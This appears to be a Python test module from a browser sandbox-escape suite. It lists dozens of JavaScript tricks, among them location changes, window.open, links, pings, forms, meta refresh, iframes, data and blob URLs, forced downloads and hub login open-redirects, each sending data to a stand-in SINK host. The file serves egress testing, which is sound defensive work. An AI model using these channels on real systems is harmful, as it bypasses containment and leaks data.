"""Ways to go elsewhere, and to save a file: navigation, frames, windows, forms, links, downloads."""

from __future__ import annotations

from escapes.browser.page import PageAttempt as Page

_FRAME = "const f = document.createElement('iframe'); document.body.append(f); "
_LINK = "const a = document.createElement('a'); a.href = SINK + '/link'; document.body.append(a); "
_FORM = (
    "const f = document.createElement('form'); f.action = SINK + '/form'; f.innerHTML = '<input name=d value=1>'; "
    "document.body.append(f); "
)
_BLOB = "URL.createObjectURL(new Blob(['data'], {type: 'application/octet-stream'}))"
WAYS = (
    Page(name="location is set", click="location.href = SINK + '/?d=1'", decisive=True),
    Page(name="location.assign", click="location.assign(SINK + '/?d=1')"),
    Page(name="location.replace", click="location.replace(SINK + '/?d=1')"),
    Page(name="the portal's page is sent away", click="top.location = SINK + '/?d=1'", decisive=True),
    Page(name="the frame's parent is sent away", click="parent.location.href = SINK + '/?d=1'"),
    Page(name="a new window", click="window.open(SINK + '/?d=1')", decisive=True),
    Page(name="a new window without an opener", click="window.open(SINK + '/?d=1', '_blank', 'noopener')"),
    Page(name="the top window by its name", click="window.open(SINK + '/?d=1', '_top')"),
    Page(name="the parent window by its name", click="window.open(SINK + '/?d=1', '_parent')"),
    Page(name="an empty window, then sent away", click="const w = window.open(''); w.location = SINK + '/?d=1'"),
    Page(name="a link", click=_LINK + "a.click()", decisive=True),
    Page(name="a link to the top window", click=_LINK + "a.target = '_top'; a.click()"),
    Page(name="a link to a new window", click=_LINK + "a.target = '_blank'; a.click()"),
    Page(name="a link's ping", click=_LINK + "a.href = '#'; a.ping = SINK + '/ping'; a.click()", chromium_only=True),
    Page(
        name="a link in a drawing",
        body='<svg><a id="s" href="@SINK@/svg"><text y="20">x</text></a></svg>',
        click="document.getElementById('s').dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))",
    ),
    Page(
        name="a link below another base",
        head='<base href="@SINK@/">',
        click="const a = document.createElement('a'); a.href = 'x'; document.body.append(a); a.click()",
    ),
    Page(name="a form that asks", click=_FORM + "f.submit()"),
    Page(name="a form that posts", click=_FORM + "f.method = 'post'; f.submit()", decisive=True),
    Page(name="a form to the top window", click=_FORM + "f.target = '_top'; f.submit()"),
    Page(name="a form to a new window", click=_FORM + "f.target = '_blank'; f.submit()"),
    Page(
        name="a button with an address of its own",
        click="const f = document.createElement('form'); f.innerHTML = '<button formaction=\"' + SINK + '/b\">'; "
        "document.body.append(f); f.firstChild.click()",
    ),
    Page(name="a refresh in the head", head='<meta http-equiv="refresh" content="0;url=@SINK@/?d=1">', decisive=True),
    Page(
        name="a refresh that is written later",
        click="document.head.innerHTML += '<meta http-equiv=\"refresh\" content=\"0;url=' + SINK + '/?d=1\">'",
    ),
    Page(name="the navigation interface", click="navigation.navigate(SINK + '/?d=1')", chromium_only=True),
    Page(name="a frame", body='<iframe src="@SINK@/frame"></iframe>', decisive=True),
    Page(name="a frame that is sent away", click=_FRAME + "f.contentWindow.location = SINK + '/?d=1'"),
    Page(
        name="a frame with text that refreshes",
        click=_FRAME + 'f.srcdoc = `<meta http-equiv=refresh content="0;url=${SINK}/">`',
    ),
    Page(
        name="a frame with text that shows a picture",
        click=_FRAME + 'f.srcdoc = `<img src="${SINK}/i">`',
        decisive=True,
    ),
    Page(
        name="a frame of a blob",
        click=_FRAME + "f.src = URL.createObjectURL(new Blob([`<img src='${SINK}/i'>`], {type: 'text/html'}))",
    ),
    Page(
        name="a frame of a data address", click=_FRAME + "f.src = `data:text/html,<img src='${SINK}/i'>`", decisive=True
    ),
    Page(
        name="this page as a data address",
        click=_FRAME + "f.contentWindow.location = `data:text/html,<img src='${SINK}/i'>`",
    ),
    Page(
        name="an empty frame's own request",
        click=_FRAME + "f.contentWindow.fetch(SINK + '/f', {mode: 'no-cors'})",
        decisive=True,
    ),
    Page(name="an object", body='<object data="@SINK@/o"></object>'),
    Page(name="an embedded page", body='<embed src="@SINK@/e" type="text/html">'),
    Page(name="a script's address", click=_FRAME + "f.contentWindow.location = `javascript:location='${SINK}/j'`"),
    Page(name="document.write", click="document.write(`<img src='${SINK}/w'>`)"),
    Page(
        name="a saved blob",
        by_file=True,
        decisive=True,
        click=f"const a = document.createElement('a'); a.href = {_BLOB}; a.download = NAME; a.click()",
    ),
    Page(
        name="a saved data address",
        by_file=True,
        decisive=True,
        click="const a = document.createElement('a'); a.href = 'data:application/octet-stream,x'; a.download = NAME; document.body.append(a); a.click()",  # noqa: E501 - a page as one text
    ),
    Page(
        name="a saved page of the lab",
        by_file=True,
        click="const a = document.createElement('a'); a.href = location.pathname; a.download = NAME; document.body.append(a); a.click()",  # noqa: E501 - a page as one text
    ),
    Page(name="a blob as a page", by_file=True, click=f"location = {_BLOB}"),
    Page(name="a blob in a frame", by_file=True, click=_FRAME + f"f.src = {_BLOB}"),
    Page(name="a blob in a new window", by_file=True, click=f"window.open({_BLOB})"),
    Page(
        name="a picture of what is shown, saved",
        by_file=True,
        click="const c = document.createElement('canvas'); c.toBlob(b => { const a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = NAME; a.click() })",  # noqa: E501 - a page as one text
    ),
    Page(
        name="the hub's sign-in, if it led anywhere",
        click="location.href = '@HUB@/hub/login?next=' + encodeURIComponent(SINK + '/?d=1')",
        decisive=True,
    ),
    Page(
        name="a frame of the hub's sign-in, if it led anywhere",
        click=_FRAME + "f.src = '@HUB@/hub/login?next=' + encodeURIComponent(SINK + '/?d=1')",
    ),
    Page(
        name="a form to the hub's sign-in, if it led anywhere",
        click=_FORM + "f.action = '@HUB@/hub/login'; f.innerHTML = `<input name=next value='${SINK}/f'>`; f.submit()",
    ),
)
